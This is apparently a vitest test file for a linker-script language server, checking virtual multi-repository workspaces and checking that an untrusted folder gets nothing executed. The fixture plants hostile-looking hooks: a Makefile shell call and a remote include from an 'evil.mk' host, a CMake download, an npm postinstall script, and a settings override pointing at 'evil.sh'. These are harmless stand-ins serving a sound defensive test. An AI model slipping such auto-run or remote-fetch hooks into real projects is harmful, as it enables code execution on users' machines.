import { existsSync } from 'node:fs';
import * as path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type {
  CodeAction,
  Hover,
  PublishDiagnosticsParams,
  SymbolInformation,
} from 'vscode-languageserver-protocol';
import {
  listFilesRequest,
  readFileRequest,
  type ListFilesParams,
  type ReadFileParams,
  type ReadFileResult,
} from '../../protocol/server';
import { applyWorkspaceEdit, startServer, temporaryProject } from '../support/languageClient';
import { miniProject } from '../support/miniProject';

// Workspaces that are no plain folder of a disk whose owner is trusted.

const withOverlap = (length: string) =>
  miniProject({ memory: `  RAM (xrw) : ORIGIN = 0x34000400, LENGTH = ${length}` }) as Record<string, string>;

let ends: (() => Promise<void>)[] = [];

afterEach(async () => {
  for (const end of ends) await end();
  ends = [];
});

describe('folders on no disk', () => {
  const one = 'vscode-vfs://github/one/camera';
  const two = 'vscode-vfs://github/two/camera';

  /** A workspace of two repositories of one name, whose files only the client has. */
  async function virtualWorkspace() {
    const files = new Map<string, string>();
    for (const [folder, length] of [
      [one, '1024K'],
      [two, '1028K'],
    ] as const)
      for (const [file, text] of Object.entries(withOverlap(length))) files.set(`${folder}/${file}`, text);
    const published = new Map<string, PublishDiagnosticsParams['diagnostics']>();
    const project = temporaryProject({});
    const client = await startServer(
      project.root,
      {
        workspace: { workspaceFolders: true, configuration: true },
        experimental: { n6memFiles: true },
      },
      undefined,
      (connection) => {
        connection.onNotification('textDocument/publishDiagnostics', (params: PublishDiagnosticsParams) => {
          published.set(params.uri, params.diagnostics);
        });
        connection.onRequest(listFilesRequest, ({ root }: ListFilesParams) => ({
          files: [...files].flatMap(([uri, text]) =>
            uri.startsWith(`${root}/`) ? [{ path: uri.slice(root.length + 1), size: text.length }] : [],
          ),
          unreadable: [],
          cut: false,
        }));
        connection.onRequest<ReadFileResult, void>(readFileRequest, ({ uri }: ReadFileParams) => {
          const text = files.get(uri);
          return text === undefined
            ? { kind: 'unreadable', reason: 'no such file' }
            : { kind: 'bytes', base64: Buffer.from(text).toString('base64') };
        });
        // The second repository wants less to be said of it.
        connection.onRequest('workspace/configuration', ({ items }: { items: { scopeUri: string }[] }) =>
          items.map(({ scopeUri }) =>
            scopeUri === two ? { rules: { 'region-overlaps-pool': 'hint' } } : {},
          ),
        );
      },
      {
        rootUri: one,
        workspaceFolders: [
          { uri: one, name: 'camera' },
          { uri: two, name: 'camera' },
        ],
      },
    );
    ends.push(async () => {
      expect(await client.stop()).toBe(0);
      expect(client.complaints).toEqual([]);
      project.remove();
    });
    const diagnosticsOf = async (uri: string) => {
      await expect.poll(() => published.get(uri)?.length, { timeout: 60_000 }).toBe(1);
      return published.get(uri)![0]!;
    };
    return { client, files, diagnosticsOf };
  }

  it('are checked each by itself, with the settings of each', async () => {
    const { diagnosticsOf } = await virtualWorkspace();
    const first = await diagnosticsOf(`${one}/app.ld`);
    const second = await diagnosticsOf(`${two}/app.ld`);
    expect([first.code, second.code]).toEqual(['region-overlaps-pool', 'region-overlaps-pool']);
    expect([first.message, second.message].map((text) => /(\d+) bytes/.exec(text as string)?.[1])).toEqual([
      '1024',
      '5120',
    ]);
    // An error or a warning, and the hint that was asked for.
    expect(first.severity).toBeLessThan(4);
    expect(second.severity).toBe(4);
  });

  it('have hovers, names and fixes in their own documents', async () => {
    const { client, files, diagnosticsOf } = await virtualWorkspace();
    const uri = `${two}/app.ld`;
    const { range } = await diagnosticsOf(uri);
    const { connection } = client;
    await connection.sendNotification('textDocument/didOpen', {
      textDocument: { uri, languageId: 'ld', version: 1, text: files.get(uri)! },
    });
    const textDocument = { uri };
    const hover = await connection.sendRequest<Hover>('textDocument/hover', {
      textDocument,
      position: range.start,
    });
    expect(JSON.stringify(hover.contents)).toContain('0x34101400');
    const context = { diagnostics: [] };
    const actions = await connection.sendRequest<CodeAction[]>('textDocument/codeAction', {
      textDocument,
      range,
      context,
    });
    const { edit } = actions.find(({ title }) => title.startsWith('End region RAM'))!;
    expect(applyWorkspaceEdit(edit!, uri, files.get(uri)!)).toContain('LENGTH = 1023K');
    const symbols = await connection.sendRequest<SymbolInformation[]>('workspace/symbol', {
      query: 'cpuRAM2',
    });
    expect(symbols.map(({ location }) => location.uri).sort()).toEqual(
      [one, two].map((folder) => `${folder}/Model/net.mpool`),
    );
  });
});

describe('a folder that nobody trusts', () => {
  it('gets nothing run and nothing sent, whatever is asked of it', async () => {
    const project = temporaryProject({
      ...withOverlap('1024K'),
      Makefile: `RAN := $(shell touch ran)
BOARD != touch ran
C_SOURCES += Model/network.c
C_DEFS = -DSTM32N657xx -DUSE_STM32N6570_DK
C_INCLUDES = -IRuntime/Inc -IRuntime/ll_aton
LDSCRIPT = app.ld
LDFLAGS = -T$(LDSCRIPT) -LRuntime/Lib -l:NetworkRuntime1010_CM55_GCC.a
include http://127.0.0.1:9/evil.mk
all:
\ttouch ran
`,
      'CMakeLists.txt': 'execute_process(COMMAND touch ran)\nfile(DOWNLOAD http://127.0.0.1:9/x x)\n',
      'package.json': '{ "scripts": { "postinstall": "touch ran" } }\n',
      '.vscode/settings.json': '{ "n6mem.server.path": "./evil.sh" }\n',
      'evil.sh': '#!/bin/sh\ntouch ran\n',
    });
    const hook = path.resolve('test/support/refuseNetwork.cjs');
    const command = [process.execPath, '--require', hook, 'dist/server.js', '--stdio'];
    const client = await startServer(project.root, undefined, command);
    ends.push(() => Promise.resolve(project.remove()));
    await client.open('app.ld', project.read('app.ld'), 'ld');
    const [diagnostic] = await client.diagnostics('app.ld', (list) => list.length > 0);
    const textDocument = { uri: client.uri('app.ld') };
    const { range } = diagnostic!;
    const asked: [string, object][] = [
      ['textDocument/hover', { textDocument, position: range.start }],
      ['textDocument/completion', { textDocument, position: range.end }],
      ['textDocument/codeAction', { textDocument, range, context: { diagnostics: [diagnostic] } }],
      ['textDocument/codeLens', { textDocument }],
      ['textDocument/documentLink', { textDocument }],
      ['textDocument/definition', { textDocument, position: range.start }],
      ['textDocument/rename', { textDocument, position: range.start, newName: 'SRAM' }],
      ['workspace/symbol', { query: '' }],
      ['workspace/executeCommand', { command: 'n6mem.explain', arguments: ['0x34100000'] }],
      ['workspace/executeCommand', { command: 'n6mem.showMemoryMap', arguments: [textDocument.uri] }],
    ];
    for (const [method, params] of asked) await client.connection.sendRequest(method, params);
    expect(await client.stop()).toBe(0);
    expect(client.complaints).toEqual([]);
    expect(existsSync(path.join(project.root, 'ran'))).toBe(false);
  });
});
